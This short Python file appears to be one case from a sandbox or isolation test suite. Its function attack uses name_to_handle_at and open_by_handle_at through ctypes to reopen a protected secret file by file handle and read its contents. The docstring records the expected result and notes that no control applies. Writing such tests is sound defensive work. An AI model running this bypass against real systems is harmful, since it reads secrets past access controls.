"""Turn the secret's path into a file handle, and open that.

expects: passed
control: none: it needs a capability that no worker has, and not every file system has handles
"""

import ctypes
import os
import struct


def attack(world):
    library, mount = ctypes.CDLL(None), ctypes.c_int()
    handle = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0), 136)
    library.name_to_handle_at(-100, world["secret"].encode(), handle, ctypes.byref(mount), 0)
    near = os.open(os.path.dirname(os.__file__) + "/os.py", os.O_RDONLY)
    descriptor = library.open_by_handle_at(near, handle, os.O_RDONLY)
    return descriptor >= 0 and os.read(descriptor, 100)
